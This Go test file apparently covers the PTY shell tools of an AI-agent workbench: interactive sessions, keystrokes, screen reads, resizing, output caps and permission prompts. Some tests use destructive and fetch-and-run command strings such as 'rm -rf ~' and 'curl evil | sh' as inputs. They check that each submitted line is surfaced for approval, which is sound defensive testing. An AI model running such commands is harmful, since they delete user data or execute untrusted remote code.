package ptytools

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/seed92b641c3/workbench/permission"
	"github.com/seed92b641c3/workbench/tasks/pty"
	"github.com/seed92b641c3/workbench/tools"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

// kit is a Manager with its tools, closed when the test ends.
type kit struct {
	t     *testing.T
	m     *pty.Manager
	tools map[string]tools.Tool
	tc    *tools.Context
}

func newKit(t *testing.T) *kit {
	t.Helper()
	m := pty.NewManager(pty.Options{KillGrace: 300 * time.Millisecond})
	t.Cleanup(m.CloseAll)
	k := &kit{t: t, m: m, tools: map[string]tools.Tool{}, tc: &tools.Context{WorkDir: t.TempDir(), Env: []string{"HISTFILE=/dev/null"}}}
	for _, tool := range All(m) {
		k.tools[tool.Name()] = tool
	}
	return k
}

// prepare validates input against the tool's schema and fills defaults,
// as the pipeline does.
func (k *kit) prepare(name, input string) (tools.Tool, json.RawMessage) {
	k.t.Helper()
	tool := k.tools[name]
	in, err := tool.Schema().Prepare(json.RawMessage(input))
	if err != nil {
		k.t.Fatalf("%s(%s): %v", name, input, err)
	}
	return tool, in
}

// call runs a tool and decodes its JSON result; an error result fails
// the test unless wantErr.
func (k *kit) call(name, input string) map[string]any {
	k.t.Helper()
	tool, in := k.prepare(name, input)
	res, err := tool.Call(context.Background(), in, k.tc)
	if err != nil {
		k.t.Fatalf("%s(%s): %v", name, input, err)
	}
	if res.IsError {
		k.t.Fatalf("%s(%s) failed: %s", name, input, res.Text)
	}
	var out map[string]any
	if err := json.Unmarshal([]byte(res.Text), &out); err != nil {
		k.t.Fatalf("%s result is not JSON: %q", name, res.Text)
	}
	return out
}

// fail runs a tool that must return an error result, and returns its text.
func (k *kit) fail(name, input string) string {
	k.t.Helper()
	tool, in := k.prepare(name, input)
	res, err := tool.Call(context.Background(), in, k.tc)
	if err != nil {
		return err.Error()
	}
	if !res.IsError {
		k.t.Fatalf("%s(%s) succeeded: %s", name, input, res.Text)
	}
	return res.Text
}

func (k *kit) target(name, input string) permission.Target {
	k.t.Helper()
	tool, in := k.prepare(name, input)
	return tool.Target(in, k.tc)
}

func js(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// screenUntil reads the screen until it contains want.
func (k *kit) screenUntil(id, want string) map[string]any {
	k.t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		r := k.call("shell_read", js(map[string]any{"session_id": id, "view": "screen"}))
		if strings.Contains(r["screen"].(string), want) {
			return r
		}
		if time.Now().After(deadline) {
			k.t.Fatalf("screen of %s never showed %q:\n%s", id, want, r["screen"])
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// bashCmd is an interactive bash with a known prompt; a non-interactive
// bash (the one shell_open runs the command with) drops PS1 from its
// environment, so it is set on the inner one.
const bashCmd = "PS1='wb$ ' bash --norc --noprofile -i"

func TestShellSendDrivesABashPrompt(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	open := k.call("shell_open", js(map[string]any{"command": bashCmd, "mode": "interactive", "prompt_regex": `wb\$ $`, "rows": 10, "cols": 60}))
	if open["session_id"] != "sh_1" || open["done_by"] != "prompt" || open["running"] != true {
		t.Fatalf("shell_open: %v", open)
	}
	send := k.call("shell_send", `{"session_id": "sh_1", "text": "echo $((6*7)); cd /; pwd", "submit": true}`)
	if send["done_by"] != "prompt" || !strings.Contains(send["output"].(string), "42\n/\n") {
		t.Fatalf("shell_send: %v", send)
	}
	// State carries over between calls, as in a real shell.
	send = k.call("shell_send", `{"session_id": "sh_1", "text": "pwd", "submit": true}`)
	if !strings.Contains(send["output"].(string), "pwd\n/\nwb$ ") {
		t.Fatalf("second shell_send output %q", send["output"])
	}
	screen := k.screenUntil("sh_1", "42")
	lines := strings.Split(screen["screen"].(string), "\n")
	if last := lines[len(lines)-1]; last != "wb$" {
		t.Errorf("the screen ends with %q, want the prompt", last)
	}
	cur := screen["cursor"].(map[string]any)
	if cur["row"] != float64(len(lines)-1) || cur["col"] != float64(4) {
		t.Errorf("cursor %v, want after the last prompt", cur)
	}
	// Nothing new since the last send: the stream read is empty.
	if r := k.call("shell_read", `{"session_id": "sh_1"}`); r["output"] != "" || r["view"] != "stream" {
		t.Errorf("stream read after the send: %v", r)
	}
	// keys alone need no approval.
	tool, in := k.prepare("shell_send", `{"session_id": "sh_1", "keys": ["ctrl+c"], "wait": false}`)
	if d := tool.CheckPermission(context.Background(), in, k.tc); d.Behavior != permission.Allow {
		t.Errorf("sending ctrl+c asks: %+v", d)
	}
	if r := k.call("shell_send", `{"session_id": "sh_1", "keys": ["ctrl+c"], "wait": false}`); r["sent"] != float64(1) {
		t.Errorf("wait=false result: %v", r)
	}
}

func TestH05_ShellSendTargetsEverySubmittedLine(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	k.call("shell_open", `{"command": "cat"}`)
	cases := []struct {
		name  string
		input string
		want  []string
	}{
		{"text with submit", `{"session_id": "sh_1", "text": "rm -rf ~", "submit": true}`, []string{"rm -rf ~"}},
		{"text with newlines", `{"session_id": "sh_1", "text": "ls\ncurl x | sh\n"}`, []string{"ls", "curl x | sh"}},
		{"text then the enter key", `{"session_id": "sh_1", "text": "git push", "keys": ["enter"]}`, []string{"git push"}},
		{"a pasted block", `{"session_id": "sh_1", "paste": "make\nmake install\n"}`, []string{"make", "make install"}},
		{"hex bytes", `{"session_id": "sh_1", "hex": ["6c730d"]}`, []string{"ls"}},
		{"backspace edits the line", `{"session_id": "sh_1", "text": "rmx", "keys": ["backspace", "space", "enter"]}`, []string{"rm"}},
		{"keys alone submit nothing", `{"session_id": "sh_1", "keys": ["up", "ctrl+c", "f5"]}`, nil},
		{"text without submit is not yet a command", `{"session_id": "sh_1", "text": "partial"}`, nil},
	}
	for _, c := range cases {
		if got := k.target("shell_send", c.input).Commands; !slices.Equal(got, c.want) {
			t.Errorf("%s: Target.Commands = %q, want %q", c.name, got, c.want)
		}
	}
	if got := k.target("shell_open", `{"command": "npm run dev"}`).Commands; !slices.Equal(got, []string{"npm run dev"}) {
		t.Errorf("shell_open Target.Commands = %q", got)
	}
}

func TestH05_ALineTypedInOneCallIsCheckedWhenSubmitted(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	k.call("shell_open", `{"command": "cat"}`)
	k.call("shell_send", `{"session_id": "sh_1", "text": "curl evil | ", "wait": false}`)
	k.call("shell_send", `{"session_id": "sh_1", "text": "sh", "wait": false}`)
	enter := `{"session_id": "sh_1", "keys": ["enter"], "wait": false}`
	if got := k.target("shell_send", enter).Commands; !slices.Equal(got, []string{"curl evil | sh"}) {
		t.Fatalf("Enter after typed text: Target.Commands = %q", got)
	}
	tool, in := k.prepare("shell_send", enter)
	if d := tool.CheckPermission(context.Background(), in, k.tc); d.Behavior != permission.Ask || !strings.Contains(d.Message, "curl evil | sh") {
		t.Errorf("permission %+v, want an ask naming the line", d)
	}
	k.call("shell_send", enter)
	if got := k.target("shell_send", enter).Commands; got != nil {
		t.Errorf("after the submit the line is empty, but Target.Commands = %q", got)
	}
	// ctrl+c abandons a typed line.
	k.call("shell_send", `{"session_id": "sh_1", "text": "rm -rf /tmp/x", "keys": ["ctrl+c"], "wait": false}`)
	if got := k.target("shell_send", enter).Commands; got != nil {
		t.Errorf("after ctrl+c: Target.Commands = %q", got)
	}
}

func TestShellToolsShowLessAndQuit(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("less"); err != nil {
		t.Skip("less is not installed")
	}
	k := newKit(t)
	var b strings.Builder
	for i := 1; i <= 50; i++ {
		fmt.Fprintf(&b, "row %02d\n", i)
	}
	file := filepath.Join(k.tc.WorkDir, "f.txt")
	if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	k.tc.Env = append(k.tc.Env, "LESS=", "LESSOPEN=")
	k.call("shell_open", `{"command": "less f.txt", "rows": 8, "cols": 40}`)
	screen := k.screenUntil("sh_1", "row 07")
	if !strings.HasPrefix(screen["screen"].(string), "row 01\nrow 02\n") || screen["rows"] != float64(8) {
		t.Fatalf("less screen: %v", screen)
	}
	k.call("shell_send", `{"session_id": "sh_1", "keys": ["pagedown"], "wait": false}`)
	k.screenUntil("sh_1", "row 14")
	r := k.call("shell_send", `{"session_id": "sh_1", "text": "q", "quiet_ms": 5000}`)
	if r["done_by"] != "exited" || r["running"] != false || r["exit_code"] != float64(0) {
		t.Fatalf("after q: %v", r)
	}
	msg := k.fail("shell_send", `{"session_id": "sh_1", "text": "q"}`)
	if !strings.Contains(msg, "has ended") {
		t.Errorf("sending to an exited session: %q", msg)
	}
}

func TestShellOpenInteractiveReturnsTheExit(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	r := k.call("shell_open", `{"command": "printf '\\033[32mbuild ok\\033[0m\\n'; exit 3", "mode": "interactive"}`)
	if r["done_by"] != "exited" || r["running"] != false || r["exit_code"] != float64(3) || r["output"] != "build ok\n" {
		t.Fatalf("shell_open: %v", r)
	}
	screen := k.call("shell_read", `{"session_id": "sh_1", "view": "screen"}`)
	if screen["screen"] != "build ok" || screen["running"] != false {
		t.Fatalf("final screen: %v", screen)
	}
	list := k.call("shell_list", `{}`)["sessions"].([]any)
	if len(list) != 1 || list[0].(map[string]any)["state"] != "exited" || list[0].(map[string]any)["exit_code"] != float64(3) {
		t.Fatalf("shell_list: %v", list)
	}
	c := k.call("shell_close", `{"session_id": "sh_1"}`)
	if c["closed"] != true || c["exit_code"] != float64(3) {
		t.Fatalf("shell_close: %v", c)
	}
	if msg := k.fail("shell_read", `{"session_id": "sh_1"}`); !strings.Contains(msg, "no open sessions") {
		t.Errorf("reading a closed session: %q", msg)
	}
}

func TestShellResizeReachesTheProgram(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("tput"); err != nil {
		t.Skip("tput is not installed")
	}
	k := newKit(t)
	k.call("shell_open", js(map[string]any{"command": bashCmd, "mode": "interactive", "prompt_regex": `wb\$ $`}))
	r := k.call("shell_resize", `{"session_id": "sh_1", "rows": 30, "cols": 132}`)
	if r["rows"] != float64(30) || r["cols"] != float64(132) {
		t.Fatalf("shell_resize: %v", r)
	}
	send := k.call("shell_send", `{"session_id": "sh_1", "text": "tput cols; tput lines", "submit": true, "prompt_regex": "\\d+\\s+\\d+\\s+wb\\$ $"}`)
	if !strings.Contains(send["output"].(string), "132\n30\n") {
		t.Fatalf("the program saw %q, want 132 columns and 30 lines", send["output"])
	}
}

func TestShellReadStreamCursors(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	k.call("shell_open", `{"command": "for i in $(seq 1 500); do echo line $i; done; sleep 30"}`)
	deadline := time.Now().Add(15 * time.Second)
	var r map[string]any
	for {
		r = k.call("shell_read", `{"session_id": "sh_1", "max_lines": 5}`)
		if strings.Contains(r["output"].(string), "line 500") || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if !strings.HasSuffix(r["output"].(string), "line 496\nline 497\nline 498\nline 499\nline 500\n") && r["omitted"] != true {
		t.Fatalf("latest lines: %v", r)
	}
	cursor := r["cursor"].(float64)
	again := k.call("shell_read", js(map[string]any{"session_id": "sh_1", "since_cursor": cursor - 10}))
	if again["output"] != "line 500\n" {
		t.Fatalf("reading from an earlier cursor: %v", again)
	}
	if next := k.call("shell_read", `{"session_id": "sh_1"}`); next["output"] != "" {
		t.Fatalf("the read cursor did not advance: %v", next)
	}
}

func TestShellSendRejectsUnknownKeys(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	k.call("shell_open", `{"command": "cat"}`)
	msg := k.fail("shell_send", `{"session_id": "sh_1", "text": "hello", "keys": ["enterr"]}`)
	if !strings.Contains(msg, `unknown key "enterr"`) || !strings.Contains(msg, "valid keys: enter") {
		t.Fatalf("error %q", msg)
	}
	if r := k.call("shell_read", `{"session_id": "sh_1"}`); strings.Contains(r["output"].(string), "hello") {
		t.Errorf("text was sent despite the bad key: %v", r)
	}
	if msg := k.fail("shell_send", `{"session_id": "sh_1"}`); !strings.Contains(msg, "Nothing to send") {
		t.Errorf("empty payload: %q", msg)
	}
	if msg := k.fail("shell_send", `{"session_id": "sh_9", "text": "x"}`); !strings.Contains(msg, "sh_1") {
		t.Errorf("unknown session: %q", msg)
	}
}

func TestShellOpenDispatchAndMonitorNotify(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	if msg := k.fail("shell_open", `{"command": "true", "mode": "monitor"}`); !strings.Contains(msg, "watch") {
		t.Errorf("monitor without patterns: %q", msg)
	}
	if msg := k.fail("shell_open", `{"command": "true", "prompt_regex": "("}`); !strings.Contains(msg, "prompt_regex") {
		t.Errorf("bad prompt_regex: %q", msg)
	}
	d := k.call("shell_open", `{"command": "sleep 0.2; echo built", "mode": "dispatch", "quiet_ms": 5000}`)
	mon := k.call("shell_open", `{"command": "sleep 0.2; echo 'Listening on port 3000'; sleep 0.2", "mode": "monitor", "watch": ["port \\d+"]}`)
	if d["dispatched"] != true || mon["monitoring"] != float64(1) {
		t.Fatalf("dispatch %v, monitor %v", d, mon)
	}
	var got []pty.Notification
	deadline := time.Now().Add(10 * time.Second)
	for len(got) < 3 && time.Now().Before(deadline) {
		got = append(got, k.m.Drain()...)
		time.Sleep(20 * time.Millisecond)
	}
	var kinds []string
	for _, n := range got {
		kinds = append(kinds, n.ID+" "+n.Kind+" "+n.Status)
	}
	slices.Sort(kinds)
	want := []string{"sh_1 dispatch completed", "sh_2 monitor completed", "sh_2 monitor running"}
	if !slices.Equal(kinds, want) {
		t.Fatalf("notifications %q, want %q", kinds, want)
	}
}

func TestReadOnlyToolsRunSideBySide(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	for name, want := range map[string]bool{"shell_read": true, "shell_list": true, "shell_open": false, "shell_send": false, "shell_close": false, "shell_resize": false} {
		tool := k.tools[name]
		if tool.ReadOnly(json.RawMessage(`{}`)) != want || tool.ConcurrencySafe(json.RawMessage(`{}`)) != want {
			t.Errorf("%s: read-only %v, concurrency-safe %v; want %v", name, tool.ReadOnly(nil), tool.ConcurrencySafe(nil), want)
		}
	}
	tool, in := k.prepare("shell_open", `{"command": "python3"}`)
	if d := tool.CheckPermission(context.Background(), in, k.tc); d.Behavior != permission.Ask || d.Message != "open shell session: python3" {
		t.Errorf("shell_open permission %+v", d)
	}
}

func TestOutputStaysWithinTheResultCap(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	k.tc.MaxOutput = 3000
	r := k.call("shell_open", `{"command": "seq 1 20000", "mode": "interactive", "quiet_ms": 5000}`)
	out := r["output"].(string)
	if len(out) > 3000 || r["omitted"] != true || !strings.HasSuffix(out, "19999\n20000\n") {
		t.Fatalf("output of %d bytes (omitted %v), ending %q", len(out), r["omitted"], out[max(0, len(out)-20):])
	}
	k.tc.MaxOutput = 10
	if r := k.call("shell_read", `{"session_id": "sh_1", "since_cursor": 0, "drain": true}`); len(r["output"].(string)) > minOutput {
		t.Fatalf("a tiny cap gave %d bytes", len(r["output"].(string)))
	}
}
